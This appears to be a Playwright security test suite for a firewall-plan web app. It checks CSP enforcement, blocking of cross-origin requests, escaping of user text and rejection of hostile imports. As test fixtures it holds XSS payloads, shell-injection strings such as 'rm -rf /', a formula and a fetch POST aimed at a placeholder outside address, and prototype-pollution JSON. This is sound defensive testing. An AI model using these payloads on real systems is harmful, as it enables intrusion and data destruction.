import { expect, test, type Page } from '@playwright/test';
import LZString from 'lz-string';
import { execFileSync } from 'node:child_process';
import { FORMAT_IDS, RENDERERS, exportPlan, type FormatId, type Plan, type RenderOptions } from '../src/engine/index.ts';
import { parsePlanText } from '../src/engine/schema.ts';
import { AppPage } from './page-models/AppPage.ts';
import { ChangeRequestPage } from './page-models/ChangeRequestPage.ts';
import { ExportPage, type Downloaded } from './page-models/ExportPage.ts';
import { PageGuards } from './page-models/PageGuards.ts';
import { PlanIoPage } from './page-models/PlanIoPage.ts';
import { RolesPage } from './page-models/RolesPage.ts';
import { RulesPage } from './page-models/RulesPage.ts';
import { ServicesPage } from './page-models/ServicesPage.ts';

/**
 * The page treats its own input as hostile and talks to nobody: a Content-Security-Policy that the
 * browser enforces, no request outside the app's origin, user text shown as text and never as
 * markup, imports and autosaves that are checked before anything of them is used.
 *
 * Never-reachable documentation addresses (RFC 5737) stand for "another origin"; PageGuards aborts
 * any request to them that gets past the page, so nothing is ever sent.
 */

const OTHER = 'http://198.51.100.1';
const CSP_META = 'meta[http-equiv="Content-Security-Policy"]';

let guards: PageGuards;

test.beforeEach(async ({ context, baseURL }) => {
  guards = await PageGuards.install(context, baseURL ?? 'http://127.0.0.1:4173');
});

function directives(policy: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) out.set(name.toLowerCase(), sources);
  }
  return out;
}

test.describe('Content-Security-Policy', () => {
  test('the served page declares a policy that allows no other origin and no inline script', async ({ page, request }) => {
    const app = new AppPage(guards.watch(page));
    const response = await page.goto('/');
    expect(response?.ok()).toBe(true);
    await expect(page.getByRole('navigation', { name: 'Steps' })).toBeVisible();

    // the policy as served, read from the HTML the server sends (not from the DOM React built)
    const html = await (await request.get('/')).text();
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html);
    expect(meta, 'a CSP meta tag in the served HTML').not.toBeNull();
    const policy = meta?.[1] ?? '';
    // a meta policy covers only what comes after it: it must precede every script and stylesheet
    const metaAt = html.search(/<meta\s+http-equiv="Content-Security-Policy"/i);
    const firstScript = html.search(/<script\b/i);
    const firstStyle = html.search(/<link\b[^>]*rel="stylesheet"/i);
    expect(firstScript).toBeGreaterThan(metaAt);
    if (firstStyle !== -1) expect(firstStyle).toBeGreaterThan(metaAt);
    // the page itself has no inline script to allow: every <script> loads a file of this origin
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, body] of scripts) {
      expect(body?.trim(), 'inline script in index.html').toBe('');
      const src = /\bsrc="([^"]+)"/.exec(attributes ?? '')?.[1] ?? '';
      expect(src).not.toBe('');
      expect(new URL(src, page.url()).origin).toBe(new URL(page.url()).origin);
    }
    // an HTTP header policy, if the server sends one, may only be stricter; vite preview sends none
    const header = response?.headers()['content-security-policy'];
    if (header !== undefined) expect(directives(header).get('script-src') ?? directives(header).get('default-src')).toEqual(["'self'"]);

    const d = directives(policy);
    expect(d.get('default-src')).toEqual(["'self'"]);
    expect(d.get('script-src')).toEqual(["'self'"]);
    expect(d.get('connect-src')).toEqual(["'self'"]);
    expect(d.get('object-src')).toEqual(["'none'"]);
    expect(d.get('base-uri')).toEqual(["'none'"]);
    expect(d.get('form-action')).toEqual(["'none'"]);
    // no directive names another origin, a wildcard or a network scheme; inline is allowed for styles only
    for (const [name, sources] of d) {
      for (const source of sources) {
        const allowed = ["'self'", "'none'"];
        if (name === 'style-src') allowed.push("'unsafe-inline'");
        if (name === 'img-src') allowed.push('data:', 'blob:');
        expect(allowed, `${name} ${source}`).toContain(source);
      }
    }
    // the policy in force in the page is that one
    expect(await page.locator(CSP_META).getAttribute('content')).toBe(policy);
    expect(app.foreignRequests()).toEqual([]);
  });

  test('the browser enforces it: injected inline script, handlers, eval and requests to other origins are refused', async ({ page }) => {
    const app = new AppPage(guards.watch(page));
    await app.open();
    await new RolesPage(page).loadExample();
    // the app itself runs under its policy without a single violation
    expect(await PageGuards.violations(page)).toEqual([]);

    // an inline <script>, added the way an injection would add it
    await expect(page.addScriptTag({ content: 'window.__pwned = "addScriptTag";' })).rejects.toThrow(/violates the following Content Security Policy directive/);
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = "inline script";';
      document.body.append(s);
    });
    // an inline event handler
    await page.evaluate(() => {
      const b = document.createElement('button');
      b.setAttribute('onclick', 'window.__pwned = "onclick"');
      document.body.append(b);
      b.click();
      b.remove();
    });
    // a javascript: URL
    await page.evaluate(() => {
      const a = document.createElement('a');
      a.href = 'javascript:window.__pwned="javascript: URL"';
      document.body.append(a);
      a.click();
      a.remove();
    });
    // strings as code, from a script of the page's own origin (served here by the test): code run
    // through the DevTools protocol is exempt from the policy, page scripts are not
    await page.route('**/__e2e/strings-as-code.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `
          const tried = (f) => { try { f(); return 'ran'; } catch (e) { return e.name; } };
          window.__stringsAsCode = {
            eval: tried(() => eval('window.__pwned = "eval"')),
            Function: tried(() => new Function('window.__pwned = "Function"')()),
            setTimeout: tried(() => setTimeout('window.__pwned = "setTimeout"', 0)),
          };`,
      }),
    );
    await page.evaluate(
      () =>
        new Promise<void>((resolve, reject) => {
          const s = document.createElement('script');
          s.src = './__e2e/strings-as-code.js';
          s.onload = () => resolve();
          s.onerror = () => reject(new Error('the same-origin script did not load'));
          document.head.append(s);
        }),
    );
    // eval and Function throw; a string given to setTimeout is dropped (and reported, see below)
    expect(await page.evaluate(() => (window as unknown as { __stringsAsCode?: unknown }).__stringsAsCode)).toEqual({ eval: 'EvalError', Function: 'EvalError', setTimeout: 'ran' });

    // requests to another origin: fetch, an image, a form post, a frame
    const fetchResult = await page.evaluate(async (url) => {
      try {
        await fetch(url, { method: 'POST', body: 'plan' });
        return 'sent';
      } catch (e) {
        return e instanceof Error ? e.name : String(e);
      }
    }, `${OTHER}/collect`);
    expect(fetchResult).toBe('TypeError');
    await page.evaluate((url) => {
      const img = new Image();
      img.src = url;
      document.body.append(img);
      const frame = document.createElement('iframe');
      frame.src = url.replace('pixel.png', 'frame');
      document.body.append(frame);
    }, `${OTHER}/pixel.png`);
    await page.evaluate(() => {
      const base = document.createElement('base');
      base.href = 'http://198.51.100.1/';
      document.head.append(base);
    });
    // the app still works after all that
    await expect(app.planName).toHaveValue('Example vault');
    await app.goTo('Export');
    await expect(new ExportPage(page).preview).toContainText('192.0.2.10');
    // last: Playwright waits forever on the navigation a refused form post leaves behind
    await page.evaluate((url) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = url;
      document.body.append(form);
      form.requestSubmit();
    }, `${OTHER}/form`);

    // the browser reports each refusal as a CSP violation, before any request is made
    const expected = ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src', 'img-src', 'frame-src', 'form-action', 'base-uri'];
    await expect
      .poll(async () => new Set((await PageGuards.violations(page)).map((v) => v.directive)), { message: 'CSP violations reported' })
      .toEqual(new Set(expected));
    const violations = await PageGuards.violations(page);
    expect(violations.filter((v) => v.directive === 'script-src-elem').length).toBeGreaterThanOrEqual(2);
    expect(violations.filter((v) => v.directive === 'script-src').map((v) => v.blocked)).toContain('eval');
    for (const directive of ['connect-src', 'img-src', 'frame-src', 'form-action']) {
      expect(violations.find((v) => v.directive === directive)?.blocked, directive).toMatch(/^http:\/\/198\.51\.100\.1(\/|$)/);
    }

    // none of it ran, and nothing reached the network
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(guards.escaped).toEqual([]);
    // the browser may announce a request it then refuses: each one failed on the policy
    for (const url of guards.foreign()) expect(guards.failures.get(url), url).toMatch(/csp/i);
    expect(guards.dialogs).toEqual([]);
    expect(guards.pageErrors).toEqual([]);
  });
});

test('working through the whole app makes no request outside its origin', async ({ page, context }) => {
  // every view, every format downloaded and compared, the sheet, plan files and links: a long walk
  test.setTimeout(180_000);
  const app = new AppPage(guards.watch(page));
  const roles = new RolesPage(page);
  const services = new ServicesPage(page);
  const rules = new RulesPage(page);
  const exp = new ExportPage(page);
  const io = new PlanIoPage(page);
  await app.open();

  // addresses: the example, then edits, typed and pasted
  await roles.loadExample();
  await app.planName.fill('Request audit');
  await roles.type('RADIUS', '192.0.2.60 # radius-01');
  await roles.paste('TACACS', '192.0.2.61\n2001:db8::61 # tacacs v6');
  await roles.card('DNS').getByText(/^Normalised entries/).click();

  // services: cluster mode, a switch, a port
  await app.goTo('Services');
  await services.setCluster(true);
  await services.setService('TELNET 23/tcp from PRD to DVC', false);
  await services.port('SMTP 420/tcp from PRD to MAIL').fill('587');

  // rules: search, filters, row mode, sorting
  await app.goTo('Review rules');
  await rules.filter.fill('ssh');
  await rules.filterProtocol('TCP');
  await rules.rowMode('One per address pair');
  await page.getByRole('button', { name: /^Port/ }).click();
  await rules.filter.fill('');
  await app.goTo('Findings');
  await page.getByRole('button', { name: 'Show notes' }).click();

  // export: every format, host scope with default drop, the ipset file. Each download is the
  // preview, byte for byte, and the engine's export of the plan the page holds
  const planNow = parsePlanText((await io.savePlanFile()).text);
  if (!planNow.ok) throw new Error(JSON.stringify(planNow.errors));
  const engine = (format: FormatId, options: Partial<RenderOptions> = {}) => {
    const r = exportPlan(planNow.plan, format, { scope: { kind: 'gateway' }, defaultDrop: false, ipset: false, egress: 'filter', ...options });
    if (!r.ok) throw new Error(r.message);
    return r;
  };
  await app.goTo('Export');
  for (const format of FORMAT_IDS) {
    await exp.choose(format);
    const file = await exp.download();
    const expected = engine(format);
    expect(file.fileName, format).toBe(expected.fileName);
    expect(file.text, format).toBe(expected.text);
    expect(await exp.preview.textContent(), format).toBe(file.text);
  }
  await exp.choose('iptables');
  await exp.scope('Host', 'vault-01');
  await exp.defaultDrop(true);
  await page.getByRole('checkbox', { name: /^Use ipsets/ }).check();
  const host = { scope: { kind: 'host', node: 'vault-01' }, defaultDrop: true, ipset: true } as const;
  const hostFile = await exp.download();
  expect(hostFile.fileName).toBe('request-audit-host-vault-01.iptables.rules');
  expect(hostFile.text).toBe(engine('iptables', host).text);
  expect(hostFile.text).toContain('--match-set');
  // the sets it matches, and the node's IPv6 half (the example node is dual-stack)
  const sets = await exp.downloadCompanion('ipset');
  expect(sets.text).toBe(engine('ipset', { ...host, ipset: RENDERERS.ipset.options.ipset }).text);
  const v6 = await exp.downloadOtherFamily('ip6tables');
  expect(v6.fileName).toBe('request-audit-host-vault-01.ip6tables.rules');
  expect(v6.text).toBe(engine('ip6tables', host).text);
  expect(v6.text).toContain('2001:db8:10::10');
  await page.getByRole('button', { name: 'Copy', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(hostFile.text);

  // the change-request sheet and its downloads
  await app.goTo('Change request');
  const cr = new ChangeRequestPage(page);
  await expect(cr.sheet).toBeVisible();
  await cr.fill('Title', 'Open the vault firewall');
  await expect(cr.runningHeader).toContainText('Open the vault firewall');
  const html = await cr.downloadHtml();
  expect(html.text).toContain('<title>Change request Request audit</title>');
  expect(html.text).toContain('Open the vault firewall');
  expect(html.text).not.toMatch(/<script[\s>]/i);
  const md = await cr.downloadMarkdown();
  expect(md.text).toContain('Open the vault firewall');
  expect(md.text).toContain('radius-01');

  // plan files and share links, out and back in
  const saved = await io.savePlanFile();
  const link = await io.shareLink();
  await io.toolbar.getByRole('button', { name: 'New' }).click();
  await io.replaceDialog.getByRole('button', { name: 'Start a new plan' }).click();
  await io.openFile(saved.fileName, saved.text);
  await expect(app.planName).toHaveValue('Request audit');
  await page.goto(link);
  await expect(app.planName).toHaveValue('Request audit');
  await page.reload();
  await expect(app.planName).toHaveValue('Request audit');

  // a second tab of the app, as a user opening the link elsewhere
  const other = guards.watch(await context.newPage());
  await other.goto(link);
  await expect(other.getByRole('textbox', { name: 'Plan name' })).toHaveValue('Request audit');
  await other.close();

  // the recorders saw the app's own traffic (so they work): the page and its scripts, and nothing else
  const own = guards.requests.filter((u) => guards.isOwn(u) && !u.startsWith('blob:') && !u.startsWith('data:')).map((u) => new URL(u).pathname);
  expect(own).toContain('/');
  expect(own.some((path) => path.endsWith('.js'))).toBe(true);
  expect(guards.foreign()).toEqual([]);
  expect(app.foreignRequests()).toEqual([]);
  expect(guards.escaped).toEqual([]);
  expect(await PageGuards.violations(page)).toEqual([]);
  expect(guards.dialogs).toEqual([]);
  expect(guards.pageErrors).toEqual([]);
});

/** Hostile text: markup, template syntax, shell syntax, bidi controls, a very long string. */
const HOSTILE = {
  img: '<img src=x onerror=alert(1)>',
  script: '"><script>window.__pwned=1</script>',
  template: "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> $(reboot) `reboot` ; rm -rf / && echo 'x' \\",
  rtl: '\u202Etxt.exe\u202C invoice \u2066isolated\u2069 \u200Bzero-width',
  svg: '<svg/onload=alert(2)><iframe srcdoc="<script>alert(3)</script>">',
  long: `${'&lt;L'.repeat(36)}${'\u00e9'.repeat(20)}`,
} as const;

/** A label a spreadsheet would run as a formula (and that would call another origin). */
const FORMULA = '=HYPERLINK("http://198.51.100.1/x","click")';

/** Run a firewall tool on a downloaded file; its exit status and output. */
function tool(command: string, args: string[], input?: string): { status: number; output: string } {
  try {
    return { status: 0, output: execFileSync(command, args, { input, encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] }) };
  } catch (e) {
    const err = e as { status?: number; stdout?: string; stderr?: string };
    return { status: err.status ?? 1, output: `${err.stdout ?? ''}${err.stderr ?? ''}` };
  }
}

const PLAN_NAME = `"><img src=x onerror=alert(4)>{{7*7}}$(reboot)\u202Eevil${'N'.repeat(300)}`;

/** Everything in the document that user text could have turned into markup. */
async function markupFromText(page: Page): Promise<{ handlers: string[]; images: number; frames: number; svgs: number; scripts: string[]; pwned: unknown }> {
  return page.evaluate(() => ({
    handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)),
    images: document.querySelectorAll('img[src="x"], img[onerror]').length,
    frames: document.querySelectorAll('iframe').length,
    svgs: document.querySelectorAll('svg[onload]').length,
    scripts: [...document.scripts].filter((s) => !s.src).map((s) => s.textContent ?? ''),
    pwned: (window as unknown as { __pwned?: unknown }).__pwned,
  }));
}

test('hostile labels, group and plan names stay literal text in every view and are quoted in every file', async ({ page }) => {
  test.setTimeout(180_000);
  const app = new AppPage(guards.watch(page));
  const roles = new RolesPage(page);
  const io = new PlanIoPage(page);
  await app.open();
  await roles.loadExample();

  // typed as a user types them
  await app.planName.click();
  await app.planName.press('Control+a');
  // past the box's limit, but not key by key through all 300 N's
  await app.planName.pressSequentially(PLAN_NAME.slice(0, 130));
  const name = PLAN_NAME.slice(0, 120); // the box holds at most 120 characters, as the plan does
  await expect(app.planName).toHaveValue(name);
  await roles.fill('PRD', '');
  await roles.type('PRD', `192.0.2.10 # ${HOSTILE.img}`);
  const devices = roles.group('DVC', 0);
  await devices.fill('');
  await devices.type(`203.0.113.5 # ${HOSTILE.script}\n203.0.113.6 # ${HOSTILE.template}`);
  // a group's name reaches every export too (rule comments, set names, the sheet)
  await devices.rename(HOSTILE.template);
  const users = roles.group('USERW', 0);
  await users.paste(`198.51.100.0/24 # ${HOSTILE.rtl}`);
  await roles.paste('LDAP', `192.0.2.30 # ${HOSTILE.svg}\n192.0.2.33 # ${HOSTILE.long}\n192.0.2.34 # ${FORMULA}`);
  // markup where an address belongs is a problem, shown as the text it is
  await roles.paste('RADIUS', `<b>bold</b>, ${HOSTILE.img}`);

  const labels = [HOSTILE.img, HOSTILE.script, HOSTILE.template, HOSTILE.rtl, HOSTILE.svg, HOSTILE.long];
  const texts = (selector: string) => page.locator(selector).evaluateAll((els) => els.map((e) => (e.textContent ?? '').trim()));

  // Addresses: the boxes hold the text; the node table, the normalised entries and the problems show it
  await expect(roles.input('PRD')).toHaveValue(`192.0.2.10 # ${HOSTILE.img}`);
  expect(await roles.nodeRows('PRD')).toEqual([[HOSTILE.img, '192.0.2.10', '—']]);
  for (const card of [devices.card, users.card, roles.card('LDAP')]) await card.getByText(/^Normalised entries/).click();
  // a card's table is drawn on the <details> toggle event, which comes a task after the click
  await expect.poll(() => texts('.normalised-table td')).toEqual(expect.arrayContaining(labels.filter((l) => l !== HOSTILE.img)));
  await expect(devices.input).toHaveAccessibleName(`${HOSTILE.template} addresses`);
  expect(await roles.problems('RADIUS').locator('code').allTextContents()).toEqual(['<b>bold</b>', '<img', 'src=x', 'onerror=alert(1)>']);
  expect(await page.title()).toBe(`${name} — fwplan`);

  // Export: the markup is an error; the refusal lists it as text
  await app.goTo('Export');
  const exp = new ExportPage(page);
  await expect(exp.refused).toContainText('"<b>bold</b>"');
  await expect(exp.refused).toContainText('"onerror=alert(1)>"');
  expect(await markupFromText(page)).toEqual({ handlers: [], images: 0, frames: 0, svgs: 0, scripts: [], pwned: undefined });
  await app.goTo('Addresses');
  await roles.fill('RADIUS', '');

  // Review rules: each label next to its address, the group's name on its chip
  await app.goTo('Review rules');
  const rules = new RulesPage(page);
  for (const label of labels) {
    await rules.filter.fill(label);
    await expect.poll(() => texts('.address-label'), { message: label }).toContain(label);
  }
  await rules.filter.fill('203.0.113.5');
  await expect.poll(() => texts('.role-chip')).toContain(`DVC ${HOSTILE.template}`);
  await rules.filter.fill('');

  // Export: the preview is exactly the engine's file for that plan, character for character
  const saved = parsePlanText((await io.savePlanFile()).text);
  if (!saved.ok) throw new Error(JSON.stringify(saved.errors));
  const plan: Plan = saved.plan;
  expect(plan.name).toBe(name);
  expect(plan.nodes[0]).toEqual({ name: HOSTILE.img, role: 'PRD', addresses: ['192.0.2.10'] });
  expect(plan.deviceGroups[0]?.name).toBe(HOSTILE.template);
  expect(plan.deviceGroups[0]?.entries).toEqual([
    { address: '203.0.113.5', label: HOSTILE.script },
    { address: '203.0.113.6', label: HOSTILE.template },
  ]);
  await app.goTo('Export');
  const files = new Map<FormatId, Downloaded>();
  let json = '';
  for (const format of FORMAT_IDS) {
    await exp.choose(format);
    const expected = exportPlan(plan, format, { scope: { kind: 'gateway' }, defaultDrop: false, ipset: false, egress: 'filter' });
    if (!expected.ok) throw new Error(expected.message);
    await expect(exp.fileName).toHaveText(expected.fileName);
    expect(await exp.preview.textContent(), format).toBe(expected.text);
    if (format === 'json') json = expected.text;
    if (['iptables', 'nftables', 'ufw', 'firewalld', 'csv'].includes(format)) {
      const file = await exp.download();
      expect(file.text, format).toBe(expected.text);
      files.set(format, file);
    }
  }
  // the JSON export carries every label and name intact (JSON is no longer the last format listed)
  expect(json).not.toBe('');
  for (const text of [...labels, HOSTILE.img, FORMULA]) expect(json).toContain(JSON.stringify(text));

  // each file quotes them the way its target reads them back as one harmless piece, and the tools accept it
  const ipt = files.get('iptables') as Downloaded;
  // iptables-restore honours double quotes and backslashes: in a label or name they become ' and cannot end the comment early
  expect(ipt.text).toContain(`--comment "${HOSTILE.svg.replace(/"/g, "'")}"`);
  expect(ipt.text).toContain(`--comment "fwplan PRD -> DVC ${HOSTILE.template.replace(/\\/g, "'")} tcp 3389,135,139,445`);
  expect(tool('iptables-restore', ['--test', '--noflush'], ipt.text)).toEqual({ status: 0, output: '' });
  expect(tool('nft', ['-c', '-f', (files.get('nftables') as Downloaded).path])).toEqual({ status: 0, output: '' });
  for (const format of ['ufw', 'firewalld'] as const) {
    const script = files.get(format) as Downloaded;
    // in the commands, shell words in single quotes: a ' is written '\'' and nothing inside is expanded
    // ('#' comment lines may hold the text as it is: bash never runs them)
    const commands = script.text.split('\n').filter((line) => !line.trimStart().startsWith('#'));
    // (ufw comments carry the group's name, its ' written as ’ because ufw refuses ' in a comment;
    // firewalld rich rules carry no comment)
    if (format === 'ufw') expect(commands.some((line) => line.includes(`comment 'fwplan PRD -> DVC ${HOSTILE.template.replace(/'/g, '\u2019')} tcp`)), format).toBe(true);
    expect(commands.filter((line) => line.includes("echo 'x' \\")), format).toEqual([]);
    expect(tool('bash', ['-n', script.path]).status, format).toBe(0);
  }
  // a spreadsheet formula in a label is neutralised with a leading apostrophe
  const csv = (files.get('csv') as Downloaded).text;
  expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
  expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

  // Change request: the sheet names the plan and lists the labels as text
  await app.goTo('Change request');
  const cr = new ChangeRequestPage(page);
  await expect(cr.sheet).toContainText(name);
  await cr.fill('Title', HOSTILE.svg);
  await expect(cr.sheet).toContainText(HOSTILE.svg);
  await expect(cr.part('summary')).toContainText(HOSTILE.img);
  await expect(cr.part('summary')).toContainText(HOSTILE.template);
  const sheetLabels = await texts('.crs .crs-label');
  for (const label of labels.filter((l) => l !== HOSTILE.img)) expect(sheetLabels, label).toContain(label);
  const md = await cr.downloadMarkdown();
  expect(md.text).toContain('&lt;img src=x onerror=alert(1)&gt;');
  expect(md.text).not.toContain('<img src=x');

  // the share dialog shows the link as text too
  await io.toolbar.getByRole('button', { name: 'Share link' }).click();
  await expect(page.getByRole('dialog', { name: 'Share this plan' }).getByRole('textbox')).toHaveValue(/#plan=/);
  await page.getByRole('dialog', { name: 'Share this plan' }).getByRole('button', { name: 'Close' }).click();

  // nothing was made of the text: no handler, image, frame or script; no alert; no CSP violation
  for (const view of ['Addresses', 'Review rules', 'Export', 'Change request'] as const) {
    await app.goTo(view);
    const made = await markupFromText(page);
    expect(made, view).toEqual({ handlers: [], images: 0, frames: 0, svgs: 0, scripts: [], pwned: undefined });
  }
  expect(guards.dialogs).toEqual([]);
  expect(await PageGuards.violations(page)).toEqual([]);
  expect(guards.foreign()).toEqual([]);
  expect(guards.pageErrors).toEqual([]);
});

test.describe('imports', () => {
  /** The plan in progress, which a refused import must leave as it was. */
  async function planNow(io: PlanIoPage): Promise<string> {
    return (await io.savePlanFile()).text;
  }

  test('prototype keys, unknown fields, wrong types and unknown rule ids are refused by path, and change nothing', async ({ page }) => {
    const app = new AppPage(guards.watch(page));
    const io = new PlanIoPage(page);
    await app.open();
    await new RolesPage(page).loadExample();
    const before = await planNow(io);

    const refused = async (file: string, errors: [path: string, message: string][]) => {
      await io.openFile('hostile.json', file);
      await expect(io.loadFailure).toBeVisible();
      await expect(io.loadFailure).toContainText('Nothing was changed');
      for (const [path, message] of errors) {
        await expect(io.loadFailure.locator('li').filter({ has: page.locator('code.error-path', { hasText: new RegExp(`^${path.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) }) })).toContainText(message);
      }
      await expect(io.loadFailure.locator('li')).toHaveCount(errors.length);
      await io.loadFailure.getByRole('button', { name: 'Close' }).click();
      expect(await planNow(io)).toBe(before);
    };

    // raw JSON text: a JavaScript object literal would eat the __proto__ keys before they are sent
    await refused('{"version":1,"name":"Polluter","__proto__":{"polluted":"yes","isAdmin":true},"roles":{"PRD":["192.0.2.1"],"__proto__":{"PRD":["198.51.100.1"]}}}', [
      ['__proto__', 'forbidden key "__proto__"'],
      ['roles.__proto__', 'forbidden key "__proto__"'],
    ]);
    await refused('{"version":1,"roles":{"PRD":[{"address":"192.0.2.1","__proto__":{"polluted":"yes"}}]}}', [['roles.PRD[0].__proto__', 'forbidden key "__proto__"']]);
    await refused('{"version":1,"constructor":{"prototype":{"polluted":"yes"}},"roles":{"constructor":["192.0.2.1"],"toString":["192.0.2.2"]}}', [
      ['constructor', 'unknown field'],
      ['roles.constructor', 'unknown role code'],
      ['roles.toString', 'unknown role code'],
    ]);
    await refused(
      JSON.stringify({
        version: 1,
        name: 42,
        cluster: 'yes',
        roles: { PRD: '192.0.2.1', DNS: [{ address: '192.0.2.53', label: 7 }] },
        // a port is a number or a range text such as "5000-5100" (so "53" is a port): true is the wrong type
        ports: { 'prd-dns-udp-53': true, 'prd-ntp-udp-123': '53; rm -rf /' },
        disabled: ['no-such-rule'],
        enabled: ['prd-dvc-tcp-22x'],
        extra: true,
      }),
      [
        ['name', 'expected string'],
        ['cluster', 'cluster is true or false'],
        ['roles.PRD', 'expected array'],
        ['roles.DNS[0]', 'an entry is an address string'],
        ['disabled[0]', 'unknown rule id "no-such-rule"'],
        ['enabled[0]', 'unknown rule id "prd-dvc-tcp-22x"'],
        ['ports["prd-dns-udp-53"]', 'a port is 1–65535, or a range such as "5000-5100"'],
        ['ports["prd-ntp-udp-123"]', '"53; rm -rf /" is not a port (1–65535) or a range "low-high" with low ≤ high'],
        ['extra', 'unknown field'],
      ],
    );
    await refused(JSON.stringify({ version: 3, roles: {} }), [['version', 'is 3: fwplan reads plan versions 1 and 2']]);
    // version 2 objects: a prototype key in a node, services that are not the group's, an unknown id
    await refused('{"version":2,"nodes":[{"name":"vault-01","role":"PRD","addresses":["192.0.2.1"],"__proto__":{"polluted":"yes"}}]}', [
      ['nodes[0].__proto__', 'forbidden key "__proto__"'],
    ]);
    await refused(JSON.stringify({ version: 2, deviceGroups: [{ name: 'Servers', services: ['userw-prd-tcp-443', 'no-such-rule'] }], userGroups: [{ name: 'x', wat: 1 }] }), [
      ['deviceGroups[0].services[0]', '"userw-prd-tcp-443" is not a device service'],
      ['deviceGroups[0].services[1]', 'unknown rule id "no-such-rule"'],
      ['userGroups[0].wat', 'unknown field'],
    ]);

    // nothing was polluted on the way
    expect(await page.evaluate(() => [({} as Record<string, unknown>).polluted, ({} as Record<string, unknown>).isAdmin, Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')])).toEqual([
      undefined,
      undefined,
      false,
    ]);
    expect(guards.pageErrors).toEqual([]);
  });

  test('a share link over the size limit or with a prototype key is refused with a clear message, and changes nothing', async ({ page }) => {
    const app = new AppPage(guards.watch(page));
    const io = new PlanIoPage(page);
    const roles = new RolesPage(page);
    await app.open();
    await roles.loadExample();
    const before = await planNow(io);

    // 2 MB of link after "#plan=": more than any browser or chat tool passes on intact
    await page.evaluate(() => {
      location.hash = `plan=${'A'.repeat(2 * 1024 * 1024)}`;
    });
    await expect(io.loadFailure).toBeVisible();
    await expect(io.loadFailure).toHaveAccessibleName('Could not open the share link');
    await expect(io.loadFailure.locator('li')).toHaveText('(link) the link is 2.0 MB long; share links are limited to 2 MB');
    await io.loadFailure.getByRole('button', { name: 'Close' }).click();
    expect(await page.evaluate(() => location.hash)).toBe('');
    expect(await planNow(io)).toBe(before);

    // a well-formed link whose plan carries a __proto__ key
    const packed = LZString.compressToEncodedURIComponent('{"version":1,"name":"Shared polluter","roles":{"PRD":["192.0.2.1"]},"__proto__":{"polluted":"yes"}}');
    await page.evaluate((fragment) => {
      location.hash = fragment;
    }, `plan=${packed}`);
    await expect(io.loadFailure).toBeVisible();
    await expect(io.loadFailure.locator('li')).toHaveText('__proto__ forbidden key "__proto__"');
    await io.loadFailure.getByRole('button', { name: 'Close' }).click();
    expect(await planNow(io)).toBe(before);
    expect(await page.evaluate(() => ({} as Record<string, unknown>).polluted)).toBeUndefined();
  });
});

test.describe('autosave', () => {
  const KEY = 'fwplan.plan.v1';

  test('a corrupted autosave never gives a blank page, whatever the slot holds', async ({ page }) => {
    const app = new AppPage(guards.watch(page));
    await app.open();
    const roles = new RolesPage(page);
    // [what the slot holds, whether the user must be told about it]
    const damaged: [string, boolean][] = [
      ['null', true],
      ['[]', true],
      ['"just a string"', true],
      ['42', true],
      ['{"state":null,"version":1}', true],
      ['{"state":{"plan":"nope"},"version":1}', true],
      ['{"state":{"plan":{"version":1,"roles":{"PRD":[{"address":"192.0.2.1","__proto__":{"polluted":1}}]}}},"version":1}', true],
      ['\u0000\uFFFD not even text', true],
      [`{"state":{"plan":{"version":1,"name":"${'x'.repeat(100_000)}"}},"version":1}`, true],
      // a valid plan with junk around it: the junk is dropped quietly (box texts are rebuilt from the plan)
      ['{"state":{"plan":{"version":1,"roles":{"PRD":["192.0.2.1"]}},"roleText":{"PRD":42},"exportOptions":{"format":"<script>","scope":{}}},"version":1}', false],
    ];
    for (const [raw, told] of damaged) {
      const what = raw.slice(0, 60);
      await page.evaluate(({ key, value }) => localStorage.setItem(key, value), { key: KEY, value: raw });
      await page.reload();
      // the app is there and usable
      await expect(page.getByRole('navigation', { name: 'Steps' }), what).toBeVisible();
      await expect(roles.input('PRD'), what).toBeEditable();
      await expect(app.planName, what).toBeEditable();
      if (told) {
        // the user is told, and the saved text is kept aside for download
        await expect(page.getByRole('alert').filter({ hasText: 'saved in this browser' }), what).toBeVisible();
        await expect(page.getByRole('button', { name: 'Download the saved text' }), what).toBeVisible();
        expect(await page.evaluate((key) => localStorage.getItem(`${key}.unreadable`), KEY), what).toBe(raw);
      } else {
        await expect(roles.input('PRD'), what).toHaveValue('192.0.2.1');
        await expect(page.getByRole('alert'), what).toHaveCount(0);
      }
      await page.evaluate(() => localStorage.clear());
    }
    // none of them threw or polluted anything
    expect(guards.pageErrors).toEqual([]);
    expect(await page.evaluate(() => ({} as Record<string, unknown>).polluted)).toBeUndefined();
  });

  test('a damaged autosave is reported and kept aside, never silently dropped', async ({ page }) => {
    const app = new AppPage(guards.watch(page));
    const raw = '{"state":{"plan":{"version":1,"name":"Half a plan","roles":{"PRD":["192.0.2.10"]},"ports":{"prd-mail-tcp-420":"x"}}},"version":1}';
    await app.openWithStorage({ [KEY]: raw });
    const notice = page.getByRole('alert').filter({ hasText: 'left out' });
    await expect(notice).toContainText('ports["prd-mail-tcp-420"]');
    // what could be kept was kept; the whole saved text is kept aside for download
    await expect(app.planName).toHaveValue('Half a plan');
    await expect(new RolesPage(page).input('PRD')).toHaveValue('192.0.2.10');
    expect(await page.evaluate((key) => localStorage.getItem(`${key}.unreadable`), KEY)).toBe(raw);
